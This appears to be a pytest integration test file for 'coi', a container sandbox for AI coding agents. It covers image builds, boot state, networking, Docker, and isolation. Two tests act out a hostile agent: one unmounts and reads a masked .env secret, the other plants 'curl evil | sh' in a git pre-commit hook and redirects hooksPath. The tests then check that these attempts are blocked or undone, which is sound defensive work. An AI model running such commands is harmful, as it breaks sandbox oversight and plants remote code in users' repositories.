"""`coi build` on the real daemon: the full `coi` image, agents in it, Docker inside, custom builds.

The full image is built once per run (a few minutes: debootstrap, apt, npm, PyPI through the
machine's package registries) into the test project (the `coi_image` fixture in conftest.py);
the monitor tests use it too.
"""

from __future__ import annotations

import io
import json
import os
import re
import shutil
import tarfile
from pathlib import Path

import pytest
from tests.conftest import run_coi

from coi.backend import IncusClient
from coi.backend.exec import ExecRequest
from coi.network import address
from coi.sessions import template

pytestmark = pytest.mark.timeout(2400)


def test_build_makes_a_versioned_coi_image_with_the_agents(
    client: IncusClient, build_env: dict[str, str], coi_image: str
) -> None:
    version = next(line.split(": ")[1] for line in coi_image.splitlines() if "Version:" in line)
    fp = client.images.alias_target("coi")
    assert fp and client.images.alias_target(version) == fp
    for tool in ("claude", "opencode", "aider"):
        assert f"  {tool}: ok" in coi_image, coi_image
    again = run_coi("build", env=build_env)
    assert again.returncode == 0 and "Image already exists. Use --force to rebuild." in again.stdout
    # No build container is left behind.
    assert not [n for n in client.instances.names() if n.startswith("coi-build-")]
    log = Path(coi_image.split("Log: ")[1].split()[0])
    assert log.is_file() and "==> Installing Docker" in log.read_text()


@pytest.mark.parametrize(
    ("tool", "expect"),
    [("claude", "Claude Code"), ("opencode", "."), ("aider", "aider")],
)
def test_agent_clis_run_in_a_sandbox(
    build_env: dict[str, str], coi_image: str, tmp_path: Path, tool: str, expect: str
) -> None:
    tmp_path.chmod(0o755)
    res = run_coi("run", "-w", str(tmp_path), "--", tool, "--version", env=build_env, timeout=300)
    assert res.returncode == 0, res.stderr
    assert expect in res.stdout, res.stdout


def test_the_sandbox_boots_clean_with_only_what_it_uses(
    build_env: dict[str, str], coi_image: str, tmp_path: Path
) -> None:
    """The system bus answers the agent's very first command, the masked units stay off,
    nothing failed at boot, sudo works without logind, and the hostname is the sandbox's own
    name (also when it was made from a spare)."""
    tmp_path.chmod(0o755)
    script = (
        "systemctl is-active dbus.socket; "  # as the agent, through the system bus
        # (`--wait` as a user never returns: systemd does not tell unprivileged clients)
        "sudo -n systemctl is-system-running --wait; "
        "systemctl --failed --no-legend --plain | wc -l; "
        "systemctl is-active systemd-udevd systemd-logind systemd-sysusers systemd-remount-fs "
        "apt-daily.timer | sort -u; "
        "hostname"
    )
    env = {**build_env, "COI_TEMPLATES": "always"}  # the spare path on every daemon
    for _ in range(2):  # the second one from a spare
        res = run_coi("run", "-w", str(tmp_path), "--", "sh", "-c", script, env=env)
        assert res.returncode == 0, res.stderr
        lines = res.stdout.split()
        name = re.search(r"Launching container (\S+) ", res.stderr)
        assert name, res.stderr
        assert lines == ["active", "running", "0", "inactive", name.group(1)], res.stdout


def test_the_reserved_address_is_set_at_boot_and_no_dhcp_client_runs(
    client: IncusClient, build_env: dict[str, str], coi_image: str, tmp_path: Path, unique: str
) -> None:
    """The image takes the address coi reserved from the container's config at boot: one
    address, no DHCP client, also for a sandbox started without coi (a persistent one after
    `incus start`)."""
    tmp_path.chmod(0o755)
    script = (
        "ip -4 -o addr show dev eth0 | awk '{print $4}'; echo \"$COI_ADDRESS\"; "
        "pgrep -c dhclient; systemctl is-active coi-address networking; true"
    )
    res = run_coi("run", "-w", str(tmp_path), "--", "sh", "-c", script, env=build_env)
    assert res.returncode == 0, res.stderr
    cidr, given, dhclients, *units = res.stdout.split("\n")[:5]
    assert given.startswith(cidr + " ") and dhclients == "0", res.stdout
    assert units == ["active", "inactive"], res.stdout

    # Started by the daemon alone, nothing of coi's execs: only the boot sets the address.
    fp = client.images.alias_target("coi")
    assert fp
    tmpl = next(n for n in client.instances.names() if n.startswith(template.PREFIX + fp[:12]))
    net = client.networks.get("coibr0")
    addr = address.choose(net)
    assert addr is not None, "coi setup gives coibr0 a DHCP pool in its lower half only"
    nic = {"type": "nic", "network": "coibr0", "name": "eth0", "ipv4.address": addr.ip}
    client.instances.create(
        unique,
        image="",
        source={"type": "copy", "source": tmpl, "instance_only": True},
        config=addr.config(),
        devices={"eth0": nic},
        start=True,
    )
    try:
        booted = (  # systemd's socket first (bounded): an exec can come before init is up
            "i=0; while [ $i -lt 100 ] && [ ! -e /run/systemd/private ]; do sleep 0.1; "
            "i=$((i+1)); done; systemctl is-system-running --wait >/dev/null; "
        )
        out = client.exec.run(unique, ExecRequest(["sh", "-c", booted + script])).stdout
        cidr = f"{addr.ip}/{addr.prefix}"
        expected = [cidr, f"{cidr} {addr.gateway}", "0", "active", "inactive"]
        assert out.decode().split("\n")[:5] == expected, out
    finally:
        client.instances.delete(unique, force=True)


def test_docker_build_and_run_as_the_agent(
    build_env: dict[str, str], coi_image: str, tmp_path: Path
) -> None:
    # No registry is reachable: the image is FROM scratch with the host's static busybox.
    busybox = shutil.which("busybox")
    assert busybox, "coi setup installs busybox-static"
    ctx = tmp_path / "ctx.tar"
    dockerfile = (
        b"FROM scratch\nCOPY busybox /bin/busybox\n"
        b'RUN ["/bin/busybox", "--install", "-s", "/bin"]\n'
    )
    with tarfile.open(ctx, "w", format=tarfile.USTAR_FORMAT) as tar:
        tar.add(busybox, arcname="busybox")
        info = tarfile.TarInfo("Dockerfile")
        info.size = len(dockerfile)
        tar.addfile(info, io.BytesIO(dockerfile))
    tmp_path.chmod(0o755)
    ctx.chmod(0o644)
    script = (
        "for i in $(seq 1 60); do docker info >/dev/null 2>&1 && break; sleep 1; done; "
        "id -u; DOCKER_BUILDKIT=0 docker build -q -t t - < /workspace/ctx.tar >/dev/null "
        "&& docker run --rm t echo ok"
    )
    res = run_coi("run", "-w", str(tmp_path), "--", "sh", "-c", script, env=build_env, timeout=300)
    assert res.returncode == 0, res.stdout + res.stderr
    assert res.stdout.splitlines() == ["1000", "ok"]


def test_hardened_takes_root_from_the_agent(
    build_env: dict[str, str], coi_image: str, tmp_path: Path
) -> None:
    """The coi image gives the agent passwordless sudo and the docker group: with them it
    could unmount a secret's mask or a protected path. Under `--profile hardened` it has
    neither, and a secret stays empty even to an agent that tries both ways."""
    tmp_path.chmod(0o755)
    secret = tmp_path / ".env"
    secret.write_text("API_KEY=hunter2\n")
    secret.chmod(0o644)
    attack = (
        "sudo -n umount /workspace/.env 2>/dev/null && echo unmounted; "
        "sudo -n true 2>/dev/null && echo sudo; "
        "id -Gn \"$(id -un)\" | tr ' ' '\\n' | grep -x docker; "
        "cat /workspace/.env; echo end"
    )
    probe = 'sudo -n true && echo sudo; id -Gn "$(id -un)"'
    plain = run_coi("run", "-w", str(tmp_path), "--", "sh", "-c", probe, env=build_env, timeout=300)
    assert plain.returncode == 0, plain.stderr
    assert "sudo" in plain.stdout.splitlines() and "docker" in plain.stdout  # the image's way
    hard = run_coi("run", "--profile", "hardened", "-w", str(tmp_path), "--", "sh", "-c", attack,
                   env=build_env, timeout=300)  # fmt: skip
    assert hard.returncode == 0, hard.stderr
    assert hard.stdout.splitlines() == ["end"], hard.stdout  # no root, no docker, nothing read
    assert secret.read_text() == "API_KEY=hunter2\n"


def test_custom_build_installs_a_package_and_a_failing_script_leaves_nothing(
    client: IncusClient, build_env: dict[str, str], coi_image: str, tmp_path: Path, unique: str
) -> None:
    good = tmp_path / "good.sh"
    good.write_text("#!/bin/sh\nset -e\napt-get update -q\napt-get install -y -q figlet\n")
    res = run_coi(
        "build", "custom", unique, "--script", str(good), "--base", "coi-base-debian-12",
        env=build_env, timeout=900,
    )  # fmt: skip
    assert res.returncode == 0, res.stderr
    out = json.loads(res.stdout)
    assert out["alias"] == unique and out["skipped"] is False and len(out["fingerprint"]) == 64
    try:
        res = run_coi(
            "run", "--image", unique, "-w", str(tmp_path), "--", "figlet", "ok",
            env=build_env, timeout=300,
        )  # fmt: skip
        assert res.returncode == 0 and "|" in res.stdout, res.stderr
        skipped = run_coi("build", "custom", unique, "--script", str(good), env=build_env)
        assert json.loads(skipped.stdout)["skipped"] is True
    finally:
        client.images.delete(out["fingerprint"])

    bad = tmp_path / "bad.sh"
    bad.write_text("#!/bin/sh\necho about to fail\necho 'E: no such package' >&2\nexit 5\n")
    res = run_coi(
        "build", "custom", f"{unique}-bad", "--script", str(bad), "--base",
        "coi-base-debian-12", env=build_env, timeout=600,
    )  # fmt: skip
    assert res.returncode == 1
    assert "build failed in step 'Running the build script'" in res.stderr
    assert "exited with 5" in res.stderr and "about to fail" in res.stderr
    assert "E: no such package" in res.stderr and "full log:" in res.stderr
    assert not client.images.exists(f"{unique}-bad")
    assert not [n for n in client.instances.names() if n.startswith("coi-build-")]
    res = run_coi("build", "custom", "x", "--script", str(tmp_path / "nope.sh"), env=build_env)
    assert res.returncode == 2 and "build script not found" in res.stderr


def test_git_cannot_set_hooks_path_and_sudo_tampering_is_undone(
    build_env: dict[str, str], tmp_path: Path, coi_image: str
) -> None:
    """In the real image the agent has git and passwordless sudo: both attacks, both stopped."""
    import subprocess

    ws = tmp_path / "repo"
    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    hook = ws / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\nexit 0\n")
    hook.chmod(0o755)
    config = (ws / ".git" / "config").read_text()
    for root, dirs, files in os.walk(ws):
        for n in [root, *dirs, *files]:
            os.lchown(os.path.join(root, n), 1500, 1500)  # mapped to the agent user inside
    script = (
        "git config core.hooksPath /workspace/evil; echo config=$?; "
        "sudo umount /workspace/.git/hooks && echo 'curl evil | sh' | "
        "sudo tee -a .git/hooks/pre-commit >/dev/null; echo sudo=$?; "
        "cat .git/hooks/pre-commit"
    )
    res = run_coi("run", "-w", str(ws), "--", "sh", "-c", script, env=build_env, timeout=300)
    assert res.returncode == 0, res.stderr
    assert "config=0" not in res.stdout and "sudo=0" in res.stdout, res.stdout
    assert "curl evil" in res.stdout  # root inside did get through the mount...
    assert hook.read_text() == "#!/bin/sh\nexit 0\n"  # ...and coi put the hook back
    assert (ws / ".git" / "config").read_text() == config
    assert ".git/hooks/pre-commit (content changed)" in res.stderr
